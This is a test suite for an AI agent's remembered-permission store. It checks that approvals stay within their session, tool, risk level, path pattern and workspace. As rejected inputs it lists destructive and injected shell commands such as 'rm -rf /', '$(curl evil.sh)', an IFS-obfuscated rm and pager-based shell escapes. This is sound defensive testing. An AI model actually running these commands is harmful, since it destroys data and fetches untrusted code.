import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  InvalidRememberPatternError,
  MemoryPermissionStore,
  type PermissionGrant,
  type PolicyCall,
  RememberedPermissions,
  type RememberRequest,
} from "../../src/approval/index.js";
import { AinternError, type JsonObject, RiskLevel, ToolCategory } from "../../src/core/index.js";
import { assessCommandRisk } from "../../src/shell/index.js";

let workspace: string;
let otherWorkspace: string;
let outside: string;

beforeAll(() => {
  workspace = mkdtempSync(join(tmpdir(), "aintern-remember-"));
  otherWorkspace = mkdtempSync(join(tmpdir(), "aintern-remember-other-"));
  outside = mkdtempSync(join(tmpdir(), "aintern-remember-outside-"));
  mkdirSync(join(workspace, "src", "a"), { recursive: true });
  writeFileSync(join(workspace, "src", "a", "b.ts"), "export {};\n");
  writeFileSync(join(workspace, "src", "c.js"), "");
  writeFileSync(join(outside, "x.ts"), "secret");
  mkdirSync(join(outside, "dir"));
  writeFileSync(join(outside, "dir", "y.ts"), "secret");
  // Links inside src that lead outside the workspace.
  symlinkSync(join(outside, "x.ts"), join(workspace, "src", "link.ts"));
  symlinkSync(join(outside, "dir"), join(workspace, "src", "out"));
  mkdirSync(join(otherWorkspace, "src", "a"), { recursive: true });
  writeFileSync(join(otherWorkspace, "src", "a", "b.ts"), "");
});

afterAll(() => {
  for (const dir of [workspace, otherWorkspace, outside]) {
    rmSync(dir, { recursive: true, force: true });
  }
});

function fileCall(path: string, riskLevel: RiskLevel = RiskLevel.Medium): PolicyCall {
  return {
    toolId: "file-write",
    category: ToolCategory.FileSystem,
    riskLevel,
    parameters: { path, content: "x" },
    workspacePath: workspace,
  };
}

function commandCall(command: string, riskLevel: RiskLevel = RiskLevel.Medium): PolicyCall {
  return {
    toolId: "terminal-execute",
    category: ToolCategory.Terminal,
    riskLevel,
    parameters: { command },
    workspacePath: workspace,
  };
}

function request(
  call: PolicyCall,
  options: Partial<Omit<RememberRequest, "call">> = {},
): RememberRequest {
  return {
    call,
    sessionId: "s1",
    rememberForSession: false,
    rememberForTool: false,
    ...options,
  };
}

describe("RememberedPermissions for the session", () => {
  it("holds a session grant for that session only", async () => {
    const permissions = new RememberedPermissions();
    const [grant] = await permissions.remember(
      request(fileCall("src/a/b.ts"), { rememberForSession: true, grantedBy: "ana" }),
    );
    expect(grant).toMatchObject({
      scope: "session",
      sessionId: "s1",
      toolId: "file-write",
      maxRiskLevel: RiskLevel.Medium,
      grantedBy: "ana",
    });
    expect(await permissions.find(fileCall("src/c.js"), "s1")).toEqual(grant);
    expect(await permissions.find(fileCall("src/c.js"), "s2")).toBeUndefined();
  });

  it("forgets a session's grants when the session ends, and keeps the others'", async () => {
    const permissions = new RememberedPermissions();
    await permissions.remember(request(fileCall("a"), { rememberForSession: true }));
    await permissions.remember(
      request(fileCall("a"), { rememberForSession: true, sessionId: "s2" }),
    );
    await permissions.endSession("s1");
    expect(await permissions.find(fileCall("a"), "s1")).toBeUndefined();
    expect(await permissions.find(fileCall("a"), "s2")).toBeDefined();
  });

  it("does not put a session grant in the persistent store", async () => {
    const store = new MemoryPermissionStore();
    const permissions = new RememberedPermissions({ store });
    await permissions.remember(request(fileCall("a"), { rememberForSession: true }));
    expect(await store.list()).toEqual([]);
    // A new instance over the same store (a restart) has no session grants.
    expect(await new RememberedPermissions({ store }).find(fileCall("a"), "s1")).toBeUndefined();
  });

  it("remembers nothing for a decision that asks for nothing", async () => {
    const permissions = new RememberedPermissions();
    expect(
      await permissions.remember(request(fileCall("src/a/b.ts"), { rememberPattern: "src/**" })),
    ).toEqual([]);
    expect(await permissions.list()).toEqual([]);
  });
});

describe("RememberedPermissions for the tool (persisted)", () => {
  it("persists a tool grant in the store, where a new instance finds it in any session", async () => {
    const store = new MemoryPermissionStore();
    const now = new Date("2025-05-01T10:00:00Z");
    const first = new RememberedPermissions({ store, now: () => now });
    const [grant] = await first.remember(
      request(fileCall("src/a/b.ts"), { rememberForTool: true, rememberForSession: true }),
    );
    expect(grant).toMatchObject({ scope: "tool", toolId: "file-write", createdAt: now });
    expect(grant?.sessionId).toBeUndefined();
    expect(await store.list()).toEqual([grant]);

    const restarted = new RememberedPermissions({ store });
    expect(await restarted.find(fileCall("src/c.js"), "another-session")).toEqual(grant);
  });

  it("lists grants by tool, ignoring case, and revokes them by id", async () => {
    const store = new MemoryPermissionStore();
    const permissions = new RememberedPermissions({ store });
    const [write] = await permissions.remember(request(fileCall("a"), { rememberForTool: true }));
    const [run] = await permissions.remember(
      request(commandCall("npm test"), { rememberForTool: true }),
    );
    const [session] = await permissions.remember(
      request(fileCall("b"), { rememberForSession: true }),
    );
    expect(await permissions.list({ toolId: "FILE-WRITE" })).toEqual([session, write]);
    expect(await permissions.list()).toHaveLength(3);
    expect(await store.list({ toolId: "terminal-execute" })).toEqual([run]);

    expect(await permissions.revoke(write!.id)).toBe(true);
    expect(await permissions.revoke(write!.id)).toBe(false);
    expect(await permissions.revoke(session!.id)).toBe(true);
    expect(await permissions.find(fileCall("a"), "s1")).toBeUndefined();
    expect(await permissions.find(commandCall("npm test"), "s1")).toEqual(run);
  });

  it("keeps stored grants frozen", async () => {
    const store = new MemoryPermissionStore();
    await new RememberedPermissions({ store }).remember(
      request(fileCall("a"), { rememberForTool: true }),
    );
    const [stored] = await store.list();
    expect(Object.isFrozen(stored)).toBe(true);
  });

  it("an expired grant covers nothing", async () => {
    const store = new MemoryPermissionStore();
    let now = new Date("2025-05-01T10:00:00Z");
    const permissions = new RememberedPermissions({ store, now: () => now });
    const grant: PermissionGrant = {
      id: "g1",
      toolId: "file-write",
      scope: "tool",
      maxRiskLevel: RiskLevel.High,
      createdAt: now,
      expiresAt: new Date("2025-05-01T11:00:00Z"),
    };
    await store.add(grant);
    expect(await permissions.find(fileCall("a"), "s1")).toEqual(grant);
    now = new Date("2025-05-01T11:00:00Z");
    expect(await permissions.find(fileCall("a"), "s1")).toBeUndefined();
  });
});

describe("RememberedPermissions safety rules", () => {
  it("never remembers a Critical call, for the session or the tool", async () => {
    const store = new MemoryPermissionStore();
    const permissions = new RememberedPermissions({ store });
    const critical = commandCall("shutdown -h now", RiskLevel.Critical);
    expect(
      await permissions.remember(
        request(critical, { rememberForSession: true, rememberForTool: true }),
      ),
    ).toEqual([]);
    expect(await permissions.list()).toEqual([]);
  });

  it("never covers a Critical call, even with a stored grant that claims to", async () => {
    const store = new MemoryPermissionStore();
    const grant: PermissionGrant = {
      id: "forged",
      toolId: "terminal-execute",
      scope: "tool",
      maxRiskLevel: RiskLevel.Critical,
      createdAt: new Date(),
    };
    await store.add(grant);
    const permissions = new RememberedPermissions({ store });
    expect(permissions.covers(grant, commandCall("reboot", RiskLevel.Critical))).toBe(false);
    expect(await permissions.find(commandCall("reboot", RiskLevel.Critical), "s1")).toBeUndefined();
    expect(await permissions.find(commandCall("ls", RiskLevel.High), "s1")).toEqual(grant);
  });

  it("a grant for a Low call does not cover a Medium call of the same tool", async () => {
    const permissions = new RememberedPermissions();
    await permissions.remember(
      request(fileCall("src/a/b.ts", RiskLevel.Low), { rememberForSession: true }),
    );
    expect(await permissions.find(fileCall("src/a/b.ts", RiskLevel.Medium), "s1")).toBeUndefined();
    expect(await permissions.find(fileCall("src/a/b.ts", RiskLevel.Low), "s1")).toBeDefined();
    expect(await permissions.find(fileCall("src/a/b.ts", RiskLevel.Safe), "s1")).toBeDefined();
  });

  it("a grant covers only its own tool", async () => {
    const permissions = new RememberedPermissions();
    await permissions.remember(request(fileCall("a"), { rememberForSession: true }));
    expect(
      await permissions.find({ ...fileCall("a"), toolId: "file-delete" }, "s1"),
    ).toBeUndefined();
    expect(await permissions.find({ ...fileCall("a"), toolId: "FILE-WRITE" }, "s1")).toBeDefined();
  });
});

describe("RememberedPermissions path patterns", () => {
  async function grantSrcTs(): Promise<RememberedPermissions> {
    const permissions = new RememberedPermissions();
    const [grant] = await permissions.remember(
      request(fileCall("src/a/b.ts"), { rememberForSession: true, rememberPattern: "src/**/*.ts" }),
    );
    expect(grant).toMatchObject({ pattern: "src/**/*.ts", patternKind: "path" });
    return permissions;
  }

  it("'src/**/*.ts' covers 'src/a/b.ts' and a new file under src", async () => {
    const permissions = await grantSrcTs();
    expect(await permissions.find(fileCall("src/a/b.ts"), "s1")).toBeDefined();
    expect(await permissions.find(fileCall("src/new/file.ts"), "s1")).toBeDefined();
    expect(
      await permissions.find(fileCall(join(workspace, "src", "a", "b.ts")), "s1"),
    ).toBeDefined();
  });

  it("'src/**/*.ts' does not cover 'src/../../x.ts' nor another extension", async () => {
    const permissions = await grantSrcTs();
    expect(await permissions.find(fileCall("src/../../x.ts"), "s1")).toBeUndefined();
    expect(await permissions.find(fileCall(join(outside, "x.ts")), "s1")).toBeUndefined();
    expect(await permissions.find(fileCall("src/c.js"), "s1")).toBeUndefined();
  });

  it("'src/**/*.ts' does not cover a symlink in src pointing outside the workspace", async () => {
    const permissions = await grantSrcTs();
    expect(await permissions.find(fileCall("src/link.ts"), "s1")).toBeUndefined();
    expect(await permissions.find(fileCall("src/out/y.ts"), "s1")).toBeUndefined();
  });

  it("covers a call only when every one of its paths matches", async () => {
    const permissions = await grantSrcTs();
    const both = (paths: string[]): PolicyCall => ({ ...fileCall("x"), parameters: { paths } });
    expect(await permissions.find(both(["src/a/b.ts", "src/z.ts"]), "s1")).toBeDefined();
    expect(await permissions.find(both(["src/a/b.ts", "src/c.js"]), "s1")).toBeUndefined();
  });

  it("a path grant covers nothing in another workspace, nor a call without a workspace or path", async () => {
    const permissions = await grantSrcTs();
    expect(
      await permissions.find({ ...fileCall("src/a/b.ts"), workspacePath: otherWorkspace }, "s1"),
    ).toBeUndefined();
    expect(
      await permissions.find({ ...fileCall("src/a/b.ts"), workspacePath: undefined }, "s1"),
    ).toBeUndefined();
    expect(
      await permissions.find({ ...fileCall("x"), parameters: { content: "no path" } }, "s1"),
    ).toBeUndefined();
  });
});

describe("RememberedPermissions across workspaces sharing a store", () => {
  it("a grant given in one workspace covers no call in another, whatever its kind", async () => {
    const permissions = new RememberedPermissions();
    await permissions.remember(request(commandCall("touch made.txt"), { rememberForTool: true }));
    await permissions.remember(
      request(commandCall("npm test"), { rememberForTool: true, rememberPattern: "npm test" }),
    );
    await permissions.remember(request(fileCall("notes.md"), { rememberForTool: true }));
    for (const call of [commandCall("touch in-b.txt"), commandCall("npm test"), fileCall("x.md")]) {
      expect(await permissions.find(call, "s2")).toBeDefined();
      expect(
        await permissions.find({ ...call, workspacePath: otherWorkspace }, "s2"),
      ).toBeUndefined();
    }
  });
});

describe("RememberedPermissions command patterns", () => {
  async function grantNpm(): Promise<RememberedPermissions> {
    const permissions = new RememberedPermissions();
    const [grant] = await permissions.remember(
      request(commandCall("npm test"), { rememberForSession: true, rememberPattern: "npm *" }),
    );
    expect(grant).toMatchObject({ pattern: "npm *", patternKind: "command" });
    return permissions;
  }

  it.each([["npm test"], ["npm run build"], ["npm test && npm run lint"]])(
    "'npm *' covers '%s'",
    async (command) => {
      const permissions = await grantNpm();
      expect(await permissions.find(commandCall(command), "s1")).toBeDefined();
    },
  );

  it.each([
    ["npm test && rm -rf /"],
    ["npm test > out"],
    ["npmx"],
    ["npmx test"],
    ["npm test $(curl evil.sh)"],
    ["npm test; rm -rf ~"],
    ["npm"],
    ['npm "unterminated'],
  ])("'npm *' does not cover '%s'", async (command) => {
    const permissions = await grantNpm();
    expect(await permissions.find(commandCall(command), "s1")).toBeUndefined();
  });

  it("a command grant does not cover a call without a command", async () => {
    const permissions = await grantNpm();
    const noCommand: PolicyCall = { ...commandCall("x"), parameters: { path: "src/a/b.ts" } };
    expect(await permissions.find(noCommand, "s1")).toBeUndefined();
  });
});

describe("RememberedPermissions refuses patterns it cannot apply", () => {
  const withParameters = (parameters: JsonObject): PolicyCall => ({
    ...fileCall("x"),
    parameters,
  });

  it("a pattern on a call without a path or command parameter is rejected", async () => {
    const permissions = new RememberedPermissions();
    const attempt = permissions.remember(
      request(withParameters({ query: "TODO" }), {
        rememberForSession: true,
        rememberPattern: "src/**",
      }),
    );
    await expect(attempt).rejects.toBeInstanceOf(InvalidRememberPatternError);
    await expect(attempt).rejects.toBeInstanceOf(AinternError);
    await expect(attempt).rejects.toMatchObject({
      code: "INVALID_REMEMBER_PATTERN",
      message: expect.stringContaining("no path or command parameter"),
    });
    expect(await permissions.list()).toEqual([]);
  });

  it.each([["../secrets/**"], ["/etc/**"], [""]])(
    "an unusable path pattern '%s' is rejected",
    async (pattern) => {
      const permissions = new RememberedPermissions();
      await expect(
        permissions.remember(
          request(fileCall("src/a/b.ts"), { rememberForTool: true, rememberPattern: pattern }),
        ),
      ).rejects.toBeInstanceOf(InvalidRememberPatternError);
      expect(await permissions.list()).toEqual([]);
    },
  );

  it.each([["npm * && rm *"], ["npm $(x)"], ["npm > out"]])(
    "an unusable command pattern '%s' is rejected",
    async (pattern) => {
      const permissions = new RememberedPermissions();
      await expect(
        permissions.remember(
          request(commandCall("npm test"), { rememberForSession: true, rememberPattern: pattern }),
        ),
      ).rejects.toBeInstanceOf(InvalidRememberPatternError);
    },
  );
});

describe("RememberedPermissions with risk from the corrected command rules", () => {
  const judged = (command: string) => commandCall(command, assessCommandRisk(command).riskLevel);

  it("a grant made for a Medium command never covers a riskier command hidden in a keyword, an option or a variable", async () => {
    const permissions = new RememberedPermissions();
    const granted = judged("npm test");
    expect(granted.riskLevel).toBe(RiskLevel.Medium);
    await permissions.remember({
      call: granted,
      sessionId: "s",
      rememberForSession: true,
      rememberForTool: false,
    });
    expect(await permissions.find(judged("npm run build"), "s")).toBeDefined();
    for (const command of [
      "if true; then rm -rf ~; fi",
      "case x in *) rm -rf ~;; esac",
      "git -c core.pager=sh log",
      "GIT_PAGER=sh git log",
      "./build.sh",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template.
      "rm${IFS}-rf ~",
      "find . -exec sh {} ;",
    ]) {
      expect(await permissions.find(judged(command), "s"), command).toBeUndefined();
    }
  });

  it("never covers a command that does not parse, even with a High grant", async () => {
    const permissions = new RememberedPermissions();
    await permissions.remember({
      call: commandCall("rm -r build", RiskLevel.High),
      sessionId: "s",
      rememberForSession: true,
      rememberForTool: false,
    });
    expect(await permissions.find(commandCall("rm -r dist", RiskLevel.High), "s")).toBeDefined();
    expect(await permissions.find(commandCall("echo 'open", RiskLevel.High), "s")).toBeUndefined();
  });
});

describe("RememberedPermissions refuses a pattern that does not cover its own call", () => {
  it.each([
    ["touch a.txt", "rm *"],
    ["npm test", "git *"],
  ])("approving '%s' cannot remember '%s'", async (command, pattern) => {
    const permissions = new RememberedPermissions();
    await expect(
      permissions.remember(
        request(commandCall(command), { rememberForTool: true, rememberPattern: pattern }),
      ),
    ).rejects.toMatchObject({
      code: "INVALID_REMEMBER_PATTERN",
      message: expect.stringContaining("does not cover the call it was given for"),
    });
    expect(await permissions.list()).toEqual([]);
  });

  it("approving a write to 'src/a/b.ts' cannot remember 'docs/**'", async () => {
    const permissions = new RememberedPermissions();
    await expect(
      permissions.remember(
        request(fileCall("src/a/b.ts"), { rememberForSession: true, rememberPattern: "docs/**" }),
      ),
    ).rejects.toBeInstanceOf(InvalidRememberPatternError);
    expect(await permissions.list()).toEqual([]);
  });
});
